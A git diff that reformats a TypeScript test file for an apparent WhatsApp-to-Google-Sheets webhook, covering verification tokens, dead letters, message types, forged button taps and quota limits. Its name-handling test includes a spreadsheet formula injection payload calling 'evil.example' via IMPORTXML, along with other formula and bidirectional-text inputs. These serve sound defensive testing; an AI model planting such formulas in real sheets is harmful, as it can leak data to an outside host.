@@ -15,7 +15,16 @@ const message = (patch: Record<string, unknown>, contact: Record<string, unknown
     messaging_product: 'whatsapp',
     metadata: { phone_number_id: '1' },
     contacts: [{ profile: { name: 'Uji' }, wa_id: '6281399999999', ...contact }],
-    messages: [{ from: '6281399999999', id: `wamid.${Math.random()}`, timestamp: '1750030073', type: 'text', text: { body: 'halo' }, ...patch }],
+    messages: [
+      {
+        from: '6281399999999',
+        id: `wamid.${Math.random()}`,
+        timestamp: '1750030073',
+        type: 'text',
+        text: { body: 'halo' },
+        ...patch,
+      },
+    ],
   });
 const inboxSize = () => Object.keys(cast.hub.rt.properties.all()).filter((key) => key.startsWith('in.')).length;
 
@@ -50,10 +59,15 @@ describe('the door', () => {
   test('the challenge comes back with the right token only', async () => {
     const ask = async (token: string) => {
       const first = await cast.hub.finish(
-        cast.hub.rt.request({ method: 'GET', url: `/exec?source=meta&hub.mode=subscribe&hub.challenge=4711&hub.verify_token=${token}` }),
+        cast.hub.rt.request({
+          method: 'GET',
+          url: `/exec?source=meta&hub.mode=subscribe&hub.challenge=4711&hub.verify_token=${token}`,
+        }),
       );
       const location = String(first.headers.location ?? first.headers.Location ?? '');
-      const second = await cast.hub.finish(cast.hub.rt.request({ method: 'GET', url: location.replace(/^https?:\/\/[^/]+/, '') }));
+      const second = await cast.hub.finish(
+        cast.hub.rt.request({ method: 'GET', url: location.replace(/^https?:\/\/[^/]+/, '') }),
+      );
       return String(second.body);
     };
     expect(await ask('verify-local')).toBe('4711');
@@ -95,16 +109,30 @@ describe('bodies', () => {
 
   test('a message without an id, or from nobody, is kept as a dead letter and hides no neighbour', async () => {
     const good = { from: '6281377777777', id: 'wamid.good', timestamp: '1', type: 'text', text: { body: 'halo' } };
-    await cast.post(envelope({ messages: [{ type: 'text', text: { body: 'no id' } }, { ...good, id: 'wamid.nobody', from: undefined }, good] }));
-    expect(cast.hub.rows('Dead letters').slice(-2).map((row) => row.Reason)).toEqual([
-      expect.stringContaining('without an id'),
-      expect.stringContaining('from nobody'),
-    ]);
+    await cast.post(
+      envelope({
+        messages: [{ type: 'text', text: { body: 'no id' } }, { ...good, id: 'wamid.nobody', from: undefined }, good],
+      }),
+    );
+    expect(
+      cast.hub
+        .rows('Dead letters')
+        .slice(-2)
+        .map((row) => row.Reason),
+    ).toEqual([expect.stringContaining('without an id'), expect.stringContaining('from nobody')]);
     expect(cast.hub.rows('Customers').some((row) => row.Phone === '6281377777777')).toBe(true);
   });
 
   test('statuses that nobody waits for cost no row and no lock', async () => {
-    const statuses = [{ id: 'wamid.x', status: 'delivered', timestamp: '1', recipient_id: '62813', biz_opaque_callback_data: 'o-1234567890' }];
+    const statuses = [
+      {
+        id: 'wamid.x',
+        status: 'delivered',
+        timestamp: '1',
+        recipient_id: '62813',
+        biz_opaque_callback_data: 'o-1234567890',
+      },
+    ];
     await cast.post(envelope({ statuses }));
     const last = cast.hub.rt.executions().at(-1);
     expect(last?.calls).toEqual([]);
@@ -112,18 +140,35 @@ describe('bodies', () => {
 });
 
 describe('text', () => {
-  test.each(['=IMPORTXML("http://evil.example","//a")', '+62812', '-1', '@SUM(A1)', "'0812", '0812', 'TRUE', '2026-08-01', 'MAY26', '🛵 مرحبا ‮gnp', '\t=1+1'])(
-    'a name like %j stays text, and is never run',
-    async (name) => {
-      const number = `6281355${String(Math.abs([...name].reduce((a, c) => a * 31 + c.charCodeAt(0), 7)) % 1_000_000).padStart(6, '0')}`;
-      const person = cast.person(number, name);
-      await person.says(name);
-      const customer = cast.hub.rows('Customers').find((row) => row.Phone === number);
-      const logged = cast.hub.rows('Conversation').filter((row) => row.Direction === 'in').at(-1);
-      expect(logged?.Text).toBe(name);
-      expect(customer?.['Customer name']).toBe(name.replace(/[\t\u202e]/g, ' ').replace(/\s+/g, ' ').trim());
-    },
-  );
+  test.each([
+    '=IMPORTXML("http://evil.example","//a")',
+    '+62812',
+    '-1',
+    '@SUM(A1)',
+    "'0812",
+    '0812',
+    'TRUE',
+    '2026-08-01',
+    'MAY26',
+    '🛵 مرحبا ‮gnp',
+    '\t=1+1',
+  ])('a name like %j stays text, and is never run', async (name) => {
+    const number = `6281355${String(Math.abs([...name].reduce((a, c) => a * 31 + c.charCodeAt(0), 7)) % 1_000_000).padStart(6, '0')}`;
+    const person = cast.person(number, name);
+    await person.says(name);
+    const customer = cast.hub.rows('Customers').find((row) => row.Phone === number);
+    const logged = cast.hub
+      .rows('Conversation')
+      .filter((row) => row.Direction === 'in')
+      .at(-1);
+    expect(logged?.Text).toBe(name);
+    expect(customer?.['Customer name']).toBe(
+      name
+        .replace(/[\t\u202e]/g, ' ')
+        .replace(/\s+/g, ' ')
+        .trim(),
+    );
+  });
 
   test('sixty thousand characters are kept whole, over several rows', async () => {
     const long = `${'x'.repeat(59_990)}selesai 😀`;
@@ -133,14 +178,24 @@ describe('text', () => {
     expect(rows.map((row) => row.Text).join('')).toBe(long);
   });
 
-  test.each(['sticker', 'reaction', 'order', 'poll', 'edit', 'revoke', 'unsupported', 'system', 'interactive', 'ephemeral', 'nonsense', ''])(
-    'a message of type %j throws nothing and is logged',
-    async (type) => {
-      const id = `wamid.type.${type}`;
-      await cast.post(message({ id, type }));
-      expect(cast.hub.rows('Inbox log').filter((row) => row['Event ID'] === id)).toHaveLength(1);
-    },
-  );
+  test.each([
+    'sticker',
+    'reaction',
+    'order',
+    'poll',
+    'edit',
+    'revoke',
+    'unsupported',
+    'system',
+    'interactive',
+    'ephemeral',
+    'nonsense',
+    '',
+  ])('a message of type %j throws nothing and is logged', async (type) => {
+    const id = `wamid.type.${type}`;
+    await cast.post(message({ id, type }));
+    expect(cast.hub.rows('Inbox log').filter((row) => row['Event ID'] === id)).toHaveLength(1);
+  });
 });
 
 describe('taps', () => {
@@ -150,11 +205,25 @@ describe('taps', () => {
     const offer = cast.andi.phone.account.chat.filter((each) => each.from === 'business').at(-1);
     const token = JSON.stringify(offer?.content).match(/C1\|[^"]+/)?.[0] ?? '';
     const tap = (from: string, id: string, wamid: string) =>
-      cast.post(message({ from, id: wamid, type: 'interactive', interactive: { type: 'button_reply', button_reply: { id, title: 'Claim' } } }, { wa_id: from }));
+      cast.post(
+        message(
+          {
+            from,
+            id: wamid,
+            type: 'interactive',
+            interactive: { type: 'button_reply', button_reply: { id, title: 'Claim' } },
+          },
+          { wa_id: from },
+        ),
+      );
     const leadOf = () => cast.hub.rows('Leads').find((row) => row['Customer name'] === 'Rudi Hartono');
     await tap('6281200000002', token, 'wamid.foreign');
     await tap('6281399999990', token, 'wamid.stranger');
-    await tap('6281200000001', token.replace(/.$/, (c) => (c === '0' ? '1' : '0')), 'wamid.forged');
+    await tap(
+      '6281200000001',
+      token.replace(/.$/, (c) => (c === '0' ? '1' : '0')),
+      'wamid.forged',
+    );
     await tap('6281200000001', 'C1|L-9|L-9-1|0123456789abcdef', 'wamid.unknown');
     expect(leadOf()?.Status).toBe('UNCLAIMED');
     await tap('6281200000001', token, 'wamid.real');
@@ -167,9 +236,13 @@ describe('taps', () => {
 });
 
 test('a spent Sheets quota delays the answer and loses nothing', async () => {
-  const tight = await openCast({ latency: 'model', limits: { sheetsApiReadsPerMinute: 6, sheetsApiWritesPerMinute: 60 } });
+  const tight = await openCast({
+    latency: 'model',
+    limits: { sheetsApiReadsPerMinute: 6, sheetsApiWritesPerMinute: 60 },
+  });
   await tight.hub.rt.advance(60_000);
-  for (let i = 0; i < 20; i++) tight.hub.rt.after(i * 1500, () => tight.person(`62813550000${10 + i}`, `N ${i}`).phone.say('halo'));
+  for (let i = 0; i < 20; i++)
+    tight.hub.rt.after(i * 1500, () => tight.person(`62813550000${10 + i}`, `N ${i}`).phone.say('halo'));
   await tight.hub.rt.idle();
   await tight.hub.rt.advance(5 * 60_000);
   expect(tight.hub.rows('Customers')).toHaveLength(20);
